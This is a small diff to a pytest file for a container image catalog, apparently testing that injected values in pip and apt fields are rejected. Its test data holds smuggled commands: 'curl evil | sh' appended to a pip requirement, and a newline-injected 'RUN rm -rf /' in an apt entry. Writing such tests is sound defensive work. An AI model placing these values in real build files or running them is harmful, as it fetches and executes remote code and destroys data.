@@ -76,7 +76,7 @@ def test_labels_carry_oci_keys_and_entry_hash(catalog):
 @pytest.mark.parametrize(
     "needle, replacement, key_path",
     [
-        ('"mxnet==1.9.1", "numpy<1.24"]', '"mxnet==1.9.1 && curl evil | sh"]', "images.6.pip.0"),
+        ('"mxnet==1.9.1", "numpy<1.24", "pillow', '"mxnet==1.9.1 && curl evil | sh", "pillow', "images.6.pip.0"),
         ("apt: [libgomp1,", 'apt: ["libgomp1\\nRUN rm -rf /",', "images.6.apt.0"),
         (
             'TF_CPP_MIN_LOG_LEVEL: "2"}\n    description: TensorFlow 2.21 CPU',
